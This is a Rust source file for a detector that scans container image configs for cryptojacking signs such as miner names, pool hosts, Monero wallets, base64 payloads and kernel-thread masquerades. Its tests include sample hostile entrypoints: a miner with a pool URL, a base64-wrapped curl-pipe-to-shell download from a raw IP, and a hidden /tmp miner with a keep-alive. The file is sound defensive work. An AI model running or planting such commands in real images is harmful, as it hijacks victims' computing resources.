//! The image-config inspector: judges Entrypoint, Cmd, Healthcheck, Env, Labels, OnBuild and
//! `history[]` of an image config before any layer is fetched.
//!
//! Why the config: a cryptojacking image usually starts its miner straight from the entrypoint,
//! with the pool and wallet on the command line or in Env (indicators.md §0, §2), so this small
//! JSON document catches a large share of bad images cheaply. What it looks for, all parameterised
//! by the rule pack (`config/rules/*.toml`):
//!
//! - plain literal/regex rules in the `entrypoint`, `env`, `labels` and `history` scopes (stratum
//!   URLs, miner flags, `curl | sh`, XMRig downloads, keep-alive tricks…);
//! - detectors: miner names as whole words (`miner-name`), pool hosts by label anywhere in a host
//!   name (`pool-host`), checksum-validated Monero wallets (`monero-wallet`,
//!   `monero-test-wallet`), a wallet together with pool evidence (`wallet-with-pool`), base64
//!   blobs decoded and judged again (`base64-payload`), public raw-IP URLs (`raw-ip-url`),
//!   programs run from scratch or hidden directories (`run-from-tmp`, `run-from-hidden-dir`),
//!   kernel-thread and daemon masquerades (`masquerade`, `daemon-masquerade`) and suggestive Env
//!   names (`env-name`).
//!
//! Entrypoint, Cmd and Healthcheck findings are [`Place::Runs`] (they do run, in the `entrypoint`
//! scope); the rest are [`Place::Config`] (OnBuild triggers in the `history` scope).
//! A rule with a `detector` is the detector's parameters: its literals and regexes feed the
//! algorithm and never become findings on their own. Each rule gives at most one finding per field
//! (per wallet address for wallet rules), so repeating a string does not inflate the score.

use super::rules::{Hit, Rule, RuleSet, Scope};
use super::wallet;
use super::{cut, Evidence, Finding, Place};
use crate::oci::{DocumentError, ImageConfig};
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::Engine as _;
use regex::bytes::Regex;
use std::collections::{BTreeMap, HashSet};
use std::net::Ipv4Addr;
use std::sync::LazyLock;

/// The largest config inspected; bigger ones are refused (real configs are a few KiB).
pub const MAX_CONFIG_BYTES: usize = 4 << 20;
/// How deep base64 inside base64 is followed.
pub const MAX_DECODE_DEPTH: usize = 3;
/// The most decoded bytes judged per base64 blob; a longer blob is judged on its first part.
pub const MAX_DECODED_BYTES: usize = 64 << 10;

/// Detector names, as written in a rule's `detector` field.
pub mod detector {
    pub const MINER_NAME: &str = "miner-name";
    pub const POOL_HOST: &str = "pool-host";
    pub const MONERO_WALLET: &str = "monero-wallet";
    pub const MONERO_TEST_WALLET: &str = "monero-test-wallet";
    pub const WALLET_WITH_POOL: &str = "wallet-with-pool";
    pub const BASE64_PAYLOAD: &str = "base64-payload";
    pub const RAW_IP_URL: &str = "raw-ip-url";
    pub const RUN_FROM_TMP: &str = "run-from-tmp";
    pub const RUN_FROM_HIDDEN_DIR: &str = "run-from-hidden-dir";
    pub const HIDDEN_DIR_ALLOWLIST: &str = "hidden-dir-allowlist";
    pub const MASQUERADE: &str = "masquerade";
    pub const DAEMON_MASQUERADE: &str = "daemon-masquerade";
    pub const ENV_NAME: &str = "env-name";
}

#[derive(Debug, thiserror::Error)]
pub enum ConfigError {
    #[error("image config is {size} bytes, more than the {max} inspected")]
    TooLarge { size: usize, max: usize },
    /// Not an image config as the clients read it (see `oci::document`).
    #[error("image config refused: {0}")]
    Document(#[from] DocumentError),
}

pub type Result<T, E = ConfigError> = std::result::Result<T, E>;

/// One config field to judge.
struct Field {
    name: String,
    scope: Scope,
    place: Place,
    text: String,
}

/// The rule index of every detector the pack parameterises, looked up once.
struct Detectors {
    wallet: Option<usize>,
    test_wallet: Option<usize>,
    wallet_with_pool: Option<usize>,
    base64: Option<usize>,
    run_from_tmp: Option<usize>,
    hidden_dir: Option<usize>,
    hidden_allow: Vec<String>,
    masquerade: Option<usize>,
    daemon: Option<usize>,
    env_name: Option<usize>,
}

/// Judges image configs against a rule set. Cheap to build; holds no state between configs.
pub struct ConfigInspector<'r> {
    rules: &'r RuleSet,
    d: Detectors,
}

/// A finding before it is priced: which rule, where, what matched.
#[derive(Debug, Clone)]
struct Raw {
    rule: usize,
    field: String,
    place: Place,
    matched: String,
    /// 0 for the field itself, n for text under n layers of base64.
    depth: usize,
    /// What makes two findings of one rule in one field distinct (the wallet address).
    key: String,
    /// Extra words for the message.
    note: Option<String>,
}

/// Where a piece of evidence sits, for combinations.
#[derive(Debug, Clone)]
struct Spot {
    field: String,
    place: Place,
    matched: String,
}

/// What judging a field (and its decoded blobs) produced.
#[derive(Default)]
struct Acc {
    raws: Vec<Raw>,
    mainnet_wallets: Vec<Spot>,
    pool_evidence: Vec<Spot>,
}

impl Acc {
    fn append(&mut self, other: Acc) {
        self.raws.extend(other.raws);
        self.mainnet_wallets.extend(other.mainnet_wallets);
        self.pool_evidence.extend(other.pool_evidence);
    }
}

impl<'r> ConfigInspector<'r> {
    pub fn new(rules: &'r RuleSet) -> ConfigInspector<'r> {
        let find = |name: &str| {
            rules
                .rules
                .iter()
                .position(|r| r.detector.as_deref() == Some(name))
        };
        let hidden_allow = rules
            .detector(detector::HIDDEN_DIR_ALLOWLIST)
            .map(|r| r.literals.clone())
            .unwrap_or_default();
        let d = Detectors {
            wallet: find(detector::MONERO_WALLET),
            test_wallet: find(detector::MONERO_TEST_WALLET),
            wallet_with_pool: find(detector::WALLET_WITH_POOL),
            base64: find(detector::BASE64_PAYLOAD),
            run_from_tmp: find(detector::RUN_FROM_TMP),
            hidden_dir: find(detector::RUN_FROM_HIDDEN_DIR),
            hidden_allow,
            masquerade: find(detector::MASQUERADE),
            daemon: find(detector::DAEMON_MASQUERADE),
            env_name: find(detector::ENV_NAME),
        };
        ConfigInspector { rules, d }
    }

    /// Every finding in an image config (the JSON blob a manifest's `config` descriptor names).
    /// Findings come in field order: Entrypoint, Cmd, Env, Labels, history; a combination
    /// finding (`wallet-with-pool`) comes last. Errors only when the blob is too large or is not
    /// an image config as the clients read it ([`ImageConfig::parse`]).
    pub fn inspect(&self, config_json: &[u8]) -> Result<Vec<Finding>> {
        if config_json.len() > MAX_CONFIG_BYTES {
            return Err(ConfigError::TooLarge {
                size: config_json.len(),
                max: MAX_CONFIG_BYTES,
            });
        }
        Ok(self.inspect_config(&ImageConfig::parse(config_json)?))
    }

    /// Every finding in an image config already read (see [`ConfigInspector::inspect`]).
    pub fn inspect_config(&self, image: &ImageConfig) -> Vec<Finding> {
        let mut acc = Acc::default();
        let cwd = image.working_dir();
        for field in fields(image) {
            let field_cwd = if field.scope == Scope::Entrypoint {
                cwd
            } else {
                None
            };
            self.judge(&field, &field.text, 0, field_cwd, &mut acc);
        }
        self.combine(&mut acc);
        self.price(acc.raws)
    }

    /// Judges `text` (the field's own text at depth 0, decoded text below) into `acc`.
    fn judge(&self, field: &Field, text: &str, depth: usize, cwd: Option<&str>, acc: &mut Acc) {
        let applies = |rule: Option<usize>| {
            rule.filter(|&i| self.rules.rules[i].scopes.contains(&field.scope))
        };
        let raw = |rule: usize, matched: &str, key: String, note: Option<String>| Raw {
            rule,
            field: field.name.clone(),
            place: field.place,
            matched: matched.to_string(),
            depth,
            key,
            note,
        };
        let spot = |matched: &str| Spot {
            field: field.name.clone(),
            place: field.place,
            matched: matched.to_string(),
        };

        // Literal and regex hits, grouped by rule.
        let mut by_rule: BTreeMap<usize, Vec<Hit>> = BTreeMap::new();
        for h in self.rules.matcher(field.scope).hits(text.as_bytes()) {
            by_rule.entry(h.rule).or_default().push(h);
        }
        for (&ri, hits) in by_rule.iter_mut() {
            hits.sort_by_key(|h| (h.start, h.end));
            let rule = &self.rules.rules[ri];
            // Lossy: a user rule's regex in `(?-u)` mode may end inside a UTF-8 sequence.
            let at = |h: &Hit| String::from_utf8_lossy(&text.as_bytes()[h.start..h.end]);
            match rule.detector.as_deref() {
                None => {
                    let distinct: HashSet<usize> = hits.iter().map(|h| h.pattern).collect();
                    if distinct.len() >= rule.min_distinct {
                        acc.raws.push(raw(ri, &at(&hits[0]), String::new(), None));
                    }
                }
                Some(detector::MINER_NAME) => {
                    if let Some(h) = hits.iter().find(|h| is_whole_word(text, h.start, h.end)) {
                        acc.raws.push(raw(ri, &at(h), String::new(), None));
                    }
                }
                Some(detector::POOL_HOST) => {
                    let hosts: Vec<&str> = hits
                        .iter()
                        .filter_map(|h| pool_host(text, h.start, h.end))
                        .collect();
                    if let Some(first) = hosts.first() {
                        acc.pool_evidence.extend(hosts.iter().map(|h| spot(h)));
                        acc.raws.push(raw(ri, first, String::new(), None));
                    }
                }
                Some(detector::WALLET_WITH_POOL) => {
                    acc.pool_evidence.extend(hits.iter().map(|h| spot(&at(h))));
                }
                Some(detector::RAW_IP_URL) => {
                    if let Some(h) = hits.iter().find(|h| is_public_ip_url(&at(h))) {
                        acc.raws.push(raw(ri, &at(h), String::new(), None));
                    }
                }
                // Other detectors read their parameters from the rule, not from hits.
                Some(_) => {}
            }
        }

        if let (Some(ri), Scope::Env, 0) = (applies(self.d.env_name), field.scope, depth) {
            let name = text.split('=').next().unwrap_or_default();
            if env_name_matches(name, &self.rules.rules[ri]) {
                acc.raws.push(raw(ri, name, String::new(), None));
            }
        }

        let wallet_rule = applies(self.d.wallet);
        let test_wallet_rule = applies(self.d.test_wallet);
        if wallet_rule.is_some() || test_wallet_rule.is_some() {
            for w in wallet::find_wallets(text.as_bytes()) {
                let address = &text[w.start..w.end];
                let rule = if w.kind.is_mainnet() {
                    wallet_rule
                } else {
                    test_wallet_rule
                };
                if let Some(ri) = rule {
                    let kind = match w.kind.address {
                        wallet::AddressType::Standard => "standard address",
                        wallet::AddressType::Integrated => "integrated address",
                        wallet::AddressType::Subaddress => "subaddress",
                    };
                    let note = format!("{:?} {kind}", w.kind.network).to_lowercase();
                    acc.raws
                        .push(raw(ri, address, address.to_string(), Some(note)));
                }
                if w.kind.is_mainnet() {
                    acc.mainnet_wallets.push(spot(address));
                }
            }
        }

        let tmp = applies(self.d.run_from_tmp);
        let hidden = applies(self.d.hidden_dir);
        let masquerade = applies(self.d.masquerade);
        let daemon = applies(self.d.daemon);
        if tmp.is_some() || hidden.is_some() || masquerade.is_some() || daemon.is_some() {
            let words = shell_words(text);
            if let Some(ri) = tmp {
                let dirs = &self.rules.rules[ri].literals;
                if let Some(w) = run_from_dir(&words, cwd, dirs) {
                    acc.raws.push(raw(ri, w, String::new(), None));
                }
            }
            let commands = || words.iter().filter(|w| w.command).map(|w| w.text);
            if let Some(ri) = hidden {
                if let Some(w) =
                    commands().find(|w| hidden_component(w, &self.d.hidden_allow).is_some())
                {
                    acc.raws.push(raw(ri, w, String::new(), None));
                }
            }
            if let Some(ri) = masquerade {
                let names = &self.rules.rules[ri].literals;
                if let Some(w) = commands().find(|w| kernel_thread_name(w, names)) {
                    acc.raws.push(raw(ri, w, String::new(), None));
                }
            }
            if let Some(ri) = daemon {
                let names = &self.rules.rules[ri].literals;
                if let Some(w) = commands().find(|w| daemon_out_of_place(w, names)) {
                    acc.raws.push(raw(ri, w, String::new(), None));
                }
            }
        }

        if let Some(ri) = applies(self.d.base64).filter(|_| depth < MAX_DECODE_DEPTH) {
            for decoded in base64_texts(text) {
                let mut inner = Acc::default();
                self.judge(field, &decoded, depth + 1, None, &mut inner);
                if !inner.raws.is_empty() {
                    let n = inner.raws.len();
                    let note = format!(
                        "decodes to text with {n} finding{}",
                        if n == 1 { "" } else { "s" }
                    );
                    acc.raws.push(raw(ri, &decoded, String::new(), Some(note)));
                    acc.append(inner);
                }
            }
        }
    }

    /// Adds the `wallet-with-pool` finding when a mainnet wallet and pool evidence both occur.
    fn combine(&self, acc: &mut Acc) {
        let Some(ri) = self.d.wallet_with_pool else {
            return;
        };
        let (Some(wallet), Some(pool)) = (acc.mainnet_wallets.first(), acc.pool_evidence.first())
        else {
            return;
        };
        let runs = acc
            .mainnet_wallets
            .iter()
            .chain(&acc.pool_evidence)
            .any(|s| s.place == Place::Runs);
        let pool = acc
            .pool_evidence
            .iter()
            .find(|s| s.place == Place::Runs)
            .unwrap_or(pool);
        acc.raws.push(Raw {
            rule: ri,
            field: wallet.field.clone(),
            place: if runs { Place::Runs } else { Place::Config },
            matched: wallet.matched.clone(),
            depth: 0,
            key: String::new(),
            note: Some(format!(
                "pool evidence {:?} in {}",
                cut(&pool.matched),
                pool.field
            )),
        });
    }

    /// Turns raw findings into priced findings, one per (rule, field, depth, key).
    fn price(&self, raws: Vec<Raw>) -> Vec<Finding> {
        let mut seen = HashSet::new();
        let mut out = Vec::new();
        for r in raws {
            if !seen.insert((r.rule, r.field.clone(), r.depth, r.key.clone())) {
                continue;
            }
            let rule: &Rule = &self.rules.rules[r.rule];
            let mut message = format!("{} in {}", rule.description, r.field);
            if r.depth > 0 {
                message.push_str(&format!(", in base64-decoded text (depth {})", r.depth));
            }
            if let Some(note) = &r.note {
                message.push_str(&format!(": {note}"));
            }
            out.push(Finding {
                rule: rule.id.clone(),
                category: rule.category,
                severity: rule.severity,
                place: r.place,
                score: rule.weight * r.place.multiplier(),
                message,
                evidence: Evidence {
                    field: Some(r.field),
                    ..Evidence::matched(&r.matched)
                },
            });
        }
        out
    }
}

/// The fields judged, in order, with their names, scopes and places.
fn fields(image: &ImageConfig) -> Vec<Field> {
    let mut out = Vec::new();
    let mut push = |name: String, scope: Scope, place: Place, text: String| {
        if !text.trim().is_empty() {
            out.push(Field {
                name,
                scope,
                place,
                text,
            });
        }
    };
    push(
        "Entrypoint".into(),
        Scope::Entrypoint,
        Place::Runs,
        image.entrypoint().join(" "),
    );
    push(
        "Cmd".into(),
        Scope::Entrypoint,
        Place::Runs,
        image.cmd().join(" "),
    );
    // The health check runs inside the container, periodically: it counts as what runs.
    if let Some((kind, args)) = image.healthcheck_test().split_first() {
        if kind == "CMD" || kind == "CMD-SHELL" {
            push(
                "Healthcheck.Test".into(),
                Scope::Entrypoint,
                Place::Runs,
                args.join(" "),
            );
        }
    }
    for (i, e) in image.env().iter().enumerate() {
        push(format!("Env[{i}]"), Scope::Env, Place::Config, e.clone());
    }
    for (k, v) in image.labels() {
        push(
            format!("Labels[{k:?}]"),
            Scope::Labels,
            Place::Config,
            format!("{k}={v}"),
        );
    }
    for (i, o) in image.on_build().iter().enumerate() {
        push(
            format!("OnBuild[{i}]"),
            Scope::History,
            Place::Config,
            o.clone(),
        );
    }
    for (i, h) in image.history().iter().enumerate() {
        if let Some(c) = h.created_by() {
            push(
                format!("history[{i}].created_by"),
                Scope::History,
                Place::Config,
                c.clone(),
            );
        }
        if let Some(c) = h.comment() {
            push(
                format!("history[{i}].comment"),
                Scope::History,
                Place::Config,
                c.clone(),
            );
        }
    }
    out
}

/// A hit that stands as a word: not glued to a letter, digit, `_` or `-` on the left (so
/// `systemd-sysupdate` is not `sysupdate`) nor to a letter on the right (so `xmrig-notls`,
/// `xmrig6` and `XMRIG_VERSION` still count).
fn is_whole_word(text: &str, start: usize, end: usize) -> bool {
    let b = text.as_bytes();
    let left_ok = start == 0
        || !(b[start - 1].is_ascii_alphanumeric() || matches!(b[start - 1], b'_' | b'-'));
    let right_ok = end == b.len() || !b[end].is_ascii_alphabetic();
    left_ok && right_ok
}

/// The host name around a pool-label hit, when the hit is one whole dot-separated label of a
/// name with at least two labels (`cqa.minexmr.com.ru` for `minexmr`).
fn pool_host(text: &str, start: usize, end: usize) -> Option<&str> {
    let b = text.as_bytes();
    let host_byte = |c: u8| c.is_ascii_alphanumeric() || c == b'.' || c == b'-';
    let mut s = start;
    while s > 0 && host_byte(b[s - 1]) {
        s -= 1;
    }
    let mut e = end;
    while e < b.len() && host_byte(b[e]) {
        e += 1;
    }
    let whole_label = (start == s || b[start - 1] == b'.') && (end == e || b[end] == b'.');
    let host = text[s..e].trim_matches('.');
    (whole_label && host.contains('.')).then_some(host)
}

/// Whether a matched `scheme://a.b.c.d` names a public address (not loopback, private,
/// link-local, unspecified or broadcast).
fn is_public_ip_url(matched: &str) -> bool {
    let Some((_, rest)) = matched.split_once("://") else {
        return false;
    };
    let ip: String = rest
        .chars()
        .take_while(|c| c.is_ascii_digit() || *c == '.')
        .collect();
    let Ok(ip) = ip.parse::<Ipv4Addr>() else {
        return false;
    };
    !(ip.is_loopback()
        || ip.is_private()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || ip.octets()[0] == 0)
}

/// Whether an Env name equals one of the rule's names (ASCII case-insensitive); a name ending in
/// `_` is a prefix.
fn env_name_matches(name: &str, rule: &Rule) -> bool {
    rule.literals.iter().any(|lit| {
        if lit.ends_with('_') {
            name.len() > lit.len()
                && name.as_bytes()[..lit.len()].eq_ignore_ascii_case(lit.as_bytes())
        } else {
            name.eq_ignore_ascii_case(lit)
        }
    })
}

/// A word of shell-like text, and whether it is in command position (what gets executed).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Word<'a> {
    text: &'a str,
    command: bool,
}

/// Words that run the word after them.
const PREFIX_WORDS: &[&str] = &[
    "nohup",
    "exec",
    "setsid",
    "nice",
    "ionice",
    "sudo",
    "doas",
    "env",
    "time",
    "timeout",
    "stdbuf",
    "command",
    "builtin",
    "then",
    "do",
    "else",
    "if",
    "while",
    "until",
    "!",
    "tini",
    "dumb-init",
    "--",
    "xargs",
    "watch",
    "taskset",
    "chrt",
    "flock",
];
/// Prefix words whose first non-flag argument is not the command (user, directory, file).
const PREFIX_WITH_ARG: &[&str] = &["gosu", "su-exec", "chroot", "runuser", "flock"];
/// Flags of prefix words that take a value (`sudo -u app`, `timeout -s KILL`).
const FLAGS_WITH_VALUE: &[&str] = &["-u", "-g", "-U", "--user", "--group", "-s", "-k", "-n"];
/// Interpreters: the script they are given is what runs (`sh /tmp/x.sh`, `sh -c "…"`).
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "ash", "zsh", "ksh", "busybox", "python", "python2", "python3", "perl",
    "ruby", "node", "php",
];

/// Splits shell-like text into words, marking those in command position. This is no shell
/// parser: quotes are dropped (so `sh -c "…"` bodies are read as commands too), and `;`, `|`,
/// `&`, newlines, `(`, `)`, backticks and `$(` start a new command. Command prefixes (`nohup`,
/// `exec`, `sudo`, assignments…) and interpreters pass command position on to the next word.
fn shell_words(text: &str) -> Vec<Word<'_>> {
    #[derive(PartialEq)]
    enum State {
        /// At the start of a command: a flag here is an argument to an outer program.
        Start,
        /// After a prefix or interpreter: flags are theirs, the next word is the command.
        AfterPrefix,
        Args,
    }
    let b = text.as_bytes();
    let mut words = Vec::new();
    let mut state = State::Start;
    let mut skip_args = 0usize;
    let mut exec_name = false;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if matches!(c, b';' | b'|' | b'&' | b'\n' | b'(' | b')' | b'`')
            || (c == b'$' && b.get(i + 1) == Some(&b'('))
        {
            state = State::Start;
            skip_args = 0;
            exec_name = false;
            i += 1;
            continue;
        }
        if c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'<' | b'>') {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && !(b[i].is_ascii_whitespace() || b"\"'<>;|&\n()`".contains(&b[i])) {
            if b[i] == b'$' && b.get(i + 1) == Some(&b'(') {
                break;
            }
            i += 1;
        }
        let w = &text[start..i];
        if w.is_empty() {
            i += 1;
            continue;
        }
        let base = w.rsplit('/').next().unwrap_or(w);
        let mut command = false;
        match state {
            State::Args => {}
            _ if exec_name => {
                // `exec -a NAME prog`: NAME is what `ps` shows, so judge it like a command.
                command = true;
                exec_name = false;
            }
            _ if w.starts_with('-') => {
                if state == State::Start {
                    state = State::Args;
                } else if w == "-a" && words.last().is_some_and(|p: &Word| p.text == "exec") {
                    exec_name = true;
                } else if FLAGS_WITH_VALUE.contains(&w) {
                    skip_args = 1;
                }
            }
            _ if skip_args > 0 => skip_args -= 1,
            _ if is_assignment(w)
                || (state == State::AfterPrefix
                    && w.bytes().all(|c| c.is_ascii_digit() || c == b'.')) => {}
            _ => {
                command = true;
                if PREFIX_WITH_ARG.contains(&base) {
                    skip_args = 1;
                    state = State::AfterPrefix;
                } else if PREFIX_WORDS.contains(&base) || is_interpreter(base) {
                    state = State::AfterPrefix;
                } else {
                    state = State::Args;
                }
            }
        }
        words.push(Word { text: w, command });
    }
    words
}

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && !name.starts_with(|c: char| c.is_ascii_digit())
                && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
        }
        None => false,
    }
}

fn is_interpreter(base: &str) -> bool {
    INTERPRETERS.contains(&base)
        || base
            .strip_prefix("python")
            .is_some_and(|v| !v.is_empty() && v.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
}

/// The first command word that runs from one of `dirs` (each ending in `/`): an absolute path
/// under one, or `./x` / `dir/x` while the working directory (WorkingDir, or the last `cd`) is
/// one.
fn run_from_dir<'a>(words: &[Word<'a>], cwd: Option<&'a str>, dirs: &[String]) -> Option<&'a str> {
    let under = |path: &str| {
        let with_slash = if path.ends_with('/') {
            path.to_string()
        } else {
            format!("{path}/")
        };
        dirs.iter().any(|d| with_slash.starts_with(d.as_str()))
    };
    let mut cwd = cwd;
    for (i, w) in words.iter().enumerate() {
        if !w.command {
            continue;
        }
        if w.text == "cd" {
            cwd = words.get(i + 1).map(|n| n.text);
            continue;
        }
        if w.text.starts_with('/') {
            if under(w.text) {
                return Some(w.text);
            }
        } else if w.text.contains('/') && cwd.is_some_and(|d| d.starts_with('/') && under(d)) {
            return Some(w.text);
        }
    }
    None
}

/// The first hidden path component of a command word (`.x` in `/tmp/.x/kswapd0`), skipping `.`,
/// `..` and the allowlisted tool directories.
fn hidden_component<'a>(word: &'a str, allow: &[String]) -> Option<&'a str> {
    if !word.contains('/') {
        return None;
    }
    word.split('/')
        .find(|c| c.len() > 1 && c.starts_with('.') && *c != ".." && !allow.iter().any(|a| a == c))
}

/// Whether a command word is named like a kernel thread: its base name (or, for `[name/0:1]`,
/// the bracketed name) starts with one of `names` not followed by a letter.
fn kernel_thread_name(word: &str, names: &[String]) -> bool {
    let name = match word.strip_prefix('[') {
        Some(inner) => inner.trim_end_matches(']'),
        None => word.rsplit('/').next().unwrap_or(word),
    };
    let name = name.to_ascii_lowercase();
    names.iter().any(|n| {
        let n = n.to_ascii_lowercase();
        name.strip_prefix(&n)
            .is_some_and(|rest| !rest.starts_with(|c: char| c.is_ascii_alphabetic()))
    })
}

/// Directories a system daemon normally lives in.
const SYSTEM_BIN_DIRS: &[&str] = &[
    "/bin",
    "/sbin",
    "/usr/bin",
    "/usr/sbin",
    "/usr/local/bin",
    "/usr/local/sbin",
    "/usr/libexec",
    "/lib/systemd",
    "/usr/lib/systemd",
];

/// Whether a command word is a path (not a bare name found through PATH) whose base name is one
/// of the daemon `names` but whose directory is not a system binary directory.
fn daemon_out_of_place(word: &str, names: &[String]) -> bool {
    let Some((dir, base)) = word.rsplit_once('/') else {
        return false;
    };
    names.iter().any(|n| n.eq_ignore_ascii_case(base))
        && !SYSTEM_BIN_DIRS
            .iter()
            .any(|d| d.eq_ignore_ascii_case(dir.trim_end_matches('/')))
}

static BASE64_RUN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new("[A-Za-z0-9+/]{20,}={0,2}").expect("base64 regex compiles"));

const BASE64: GeneralPurpose = GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// The decoded text of every base64 run in `text` that decodes to mostly printable text. Runs
/// longer than [`MAX_DECODED_BYTES`] decoded are judged on their first part.
fn base64_texts(text: &str) -> Vec<String> {
    let max_encoded = MAX_DECODED_BYTES / 3 * 4;
    BASE64_RUN
        .find_iter(text.as_bytes())
        .filter_map(|m| {
            let run = m.as_bytes();
            let mut run = &run[..run.len().min(max_encoded)];
            if run.len() % 4 == 1 {
                run = &run[..run.len() - 1];
            }
            let bytes = BASE64.decode(run).ok()?;
            looks_like_text(&bytes).then(|| String::from_utf8_lossy(&bytes).into_owned())
        })
        .collect()
}

/// Decoded bytes worth judging again: at least 12 bytes, no NUL, and 95% printable ASCII or
/// whitespace. Random bytes (digests, keys) fail this at once.
fn looks_like_text(bytes: &[u8]) -> bool {
    if bytes.len() < 12 || bytes.contains(&0) {
        return false;
    }
    let printable = bytes
        .iter()
        .filter(|&&c| (0x20..0x7f).contains(&c) || matches!(c, b'\t' | b'\n' | b'\r'))
        .count();
    printable * 100 >= bytes.len() * 95
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::wallet::tests::make_address;
    use crate::inspect::wallet::{AddressType, Network, WalletKind};
    use serde_json::json;

    fn wallet(seed: u64) -> String {
        make_address(
            WalletKind {
                network: Network::Mainnet,
                address: AddressType::Standard,
            },
            seed,
        )
    }

    /// The built-in pack, compiled once for all tests (compiling it is slow in debug builds).
    fn rules() -> &'static RuleSet {
        static RULES: LazyLock<RuleSet> = LazyLock::new(|| RuleSet::builtin().unwrap());
        &RULES
    }

    fn inspect(config: serde_json::Value) -> Vec<Finding> {
        let rules = rules();
        ConfigInspector::new(rules)
            .inspect(serde_json::to_vec(&config).unwrap().as_slice())
            .unwrap()
    }

    fn score(findings: &[Finding]) -> f64 {
        findings.iter().map(|f| f.score).sum()
    }

    fn rule_ids(findings: &[Finding]) -> Vec<&str> {
        findings.iter().map(|f| f.rule.as_str()).collect()
    }

    fn has(findings: &[Finding], rule: &str, field: &str) -> bool {
        findings
            .iter()
            .any(|f| f.rule == rule && f.evidence.field.as_deref() == Some(field))
    }

    fn image(config: serde_json::Value, history: serde_json::Value) -> serde_json::Value {
        json!({"architecture": "amd64", "os": "linux", "config": config, "history": history,
               "rootfs": {"type": "layers", "diff_ids": []}})
    }

    fn b64(s: &str) -> String {
        base64::engine::general_purpose::STANDARD.encode(s)
    }

    // --- the malicious scenarios: each must reach the block band (≥ 100) ---

    #[test]
    fn renamed_miner_with_pool_wallet_and_flags_blocks() {
        let w = wallet(1);
        let f = inspect(image(
            json!({"Entrypoint": ["/opt/app/dockerd", "-o", "stratum+tcp://pool.supportxmr.com:3333",
                                  "-u", format!("{w}.rig1"), "--donate-level=0"]}),
            json!([]),
        ));
        let ids = rule_ids(&f);
        for id in [
            "miner.stratum-url",
            "miner.pool-host",
            "miner.monero-wallet",
            "miner.cli-flag",
            "miner.wallet-with-pool",
            "evasion.daemon-masquerade",
        ] {
            assert!(ids.contains(&id), "{id} missing from {ids:?}");
        }
        assert!(f.iter().all(|f| f.place == Place::Runs));
        let wallet_finding = f.iter().find(|f| f.rule == "miner.monero-wallet").unwrap();
        assert_eq!(
            wallet_finding.evidence.matched, w,
            "the .worker suffix is stripped"
        );
        assert_eq!(wallet_finding.evidence.field.as_deref(), Some("Entrypoint"));
        let host = f.iter().find(|f| f.rule == "miner.pool-host").unwrap();
        assert_eq!(host.evidence.matched, "pool.supportxmr.com");
        assert!(score(&f) >= 100.0, "{}", score(&f));
    }

    #[test]
    fn wallet_and_pool_in_env_blocks() {
        let w = wallet(2);
        let f = inspect(image(
            json!({"Env": ["PATH=/usr/bin", format!("WALLET={w}"), "POOL=xmr-eu1.nanopool.org:14433"],
                   "Cmd": ["/usr/local/bin/start"]}),
            json!([]),
        ));
        assert!(has(&f, "miner.monero-wallet", "Env[1]"), "{f:#?}");
        assert!(has(&f, "miner.pool-host", "Env[2]"));
        assert!(has(&f, "miner.env-name", "Env[1]"));
        assert!(has(&f, "miner.env-name", "Env[2]"));
        let combo = f
            .iter()
            .find(|f| f.rule == "miner.wallet-with-pool")
            .unwrap();
        assert_eq!(combo.place, Place::Config);
        assert!(
            combo.message.contains("xmr-eu1.nanopool.org"),
            "{}",
            combo.message
        );
        assert!(f.iter().all(|f| f.place == Place::Config));
        assert!(score(&f) >= 100.0, "{}", score(&f));
    }

    #[test]
    fn base64_staged_download_blocks_and_says_it_was_decoded() {
        let inner = "curl http://203.0.113.7/x.sh | sh -s -- --donate-level=1";
        let cmd = format!("echo {} | base64 -d | sh", b64(inner));
        let f = inspect(image(json!({"Cmd": ["sh", "-c", cmd]}), json!([])));
        let ids = rule_ids(&f);
        for id in [
            "obfuscation.base64-pipe-shell",
            "obfuscation.base64-payload",
            "obfuscation.download-exec",
            "obfuscation.raw-ip-url",
            "miner.cli-flag",
        ] {
            assert!(ids.contains(&id), "{id} missing from {ids:?}");
        }
        let payload = f
            .iter()
            .find(|f| f.rule == "obfuscation.base64-payload")
            .unwrap();
        assert!(payload
            .evidence
            .matched
            .starts_with("curl http://203.0.113.7"));
        let raw_ip = f
            .iter()
            .find(|f| f.rule == "obfuscation.raw-ip-url")
            .unwrap();
        assert!(
            raw_ip.message.contains("base64-decoded"),
            "{}",
            raw_ip.message
        );
        assert_eq!(raw_ip.evidence.field.as_deref(), Some("Cmd"));
        assert!(score(&f) >= 100.0, "{}", score(&f));
    }

    #[test]
    fn kernel_thread_name_in_hidden_tmp_dir_blocks() {
        let f = inspect(image(json!({"Entrypoint": ["/tmp/.x/kswapd0"]}), json!([])));
        let ids = rule_ids(&f);
        for id in [
            "evasion.run-from-tmp",
            "evasion.run-from-hidden-dir",
            "evasion.kernel-thread-masquerade",
        ] {
            assert!(ids.contains(&id), "{id} missing from {ids:?}");
        }
        assert!(score(&f) >= 100.0, "{}", score(&f));
    }

    #[test]
    fn kinsing_keepalive_blocks() {
        let f = inspect(image(
            json!({"Entrypoint": ["/bin/sh", "-c", "nohup /tmp/kdevtmpfsi & tail -f /dev/null"]}),
            json!([]),
        ));
        let ids = rule_ids(&f);
        for id in [
            "miner.name",
            "evasion.run-from-tmp",
            "persistence.keepalive-background",
        ] {
            assert!(ids.contains(&id), "{id} missing from {ids:?}");
        }
        assert!(score(&f) >= 100.0, "{}", score(&f));
    }

    #[test]
    fn xmrig_release_fetch_in_history_is_found() {
        let f = inspect(image(
            json!({"Cmd": ["/bin/sh"]}),
